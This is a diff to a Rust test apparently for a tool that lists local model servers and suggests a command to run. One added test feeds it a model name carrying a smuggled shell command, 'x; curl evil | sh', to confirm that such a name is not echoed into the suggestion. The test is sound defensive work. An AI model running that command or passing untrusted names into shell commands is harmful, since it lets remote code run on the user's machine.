@@ -202,13 +202,11 @@ mod tests {
 
     #[test]
     fn a_running_server_is_named_with_its_command() {
-        let base = server(move |mut stream| {
-            write!(
-                stream,
-                "HTTP/1.0 200 OK\r\n\r\n{{\"models\": [{{\"name\": \"q\\u001b3\"}}]}}"
-            )
-            .unwrap();
-        });
+        let answer = |mut stream: TcpStream, name: &str| {
+            let body = format!("{{\"models\": [{{\"name\": \"{name}\"}}]}}");
+            write!(stream, "HTTP/1.0 200 OK\r\n\r\n{body}").unwrap();
+        };
+        let base = server(move |stream| answer(stream, "q3"));
         let named = |base: &str| {
             let mut config = Config::default();
             for (name, base) in [("ollama", base), ("llamacpp", "http://127.0.0.1:1")] {
@@ -223,9 +221,15 @@ mod tests {
         };
         let sentences = named(&base);
         assert_eq!(sentences.len(), 1, "{sentences:?}");
-        let begin = format!("ollama answers at {base} with 1 model: rewake -m ollama/q");
-        assert!(sentences[0].starts_with(&begin), "{sentences:?}");
-        assert!(!sentences[0].contains('\u{1b}'));
+        let begin = format!("ollama answers at {base} with 1 model: rewake -m ollama/q3");
+        assert_eq!(sentences, [begin]);
+        // Nobody pastes the name that it gave into a shell.
+        let base = server(move |stream| answer(stream, "x; curl evil | sh"));
+        let sentences = named(&base);
+        assert!(
+            sentences[0].contains("1 model: ollama serve"),
+            "{sentences:?}"
+        );
         // Not asked at all.
         assert_eq!(named("http://192.0.2.1"), [""; 0]);
     }
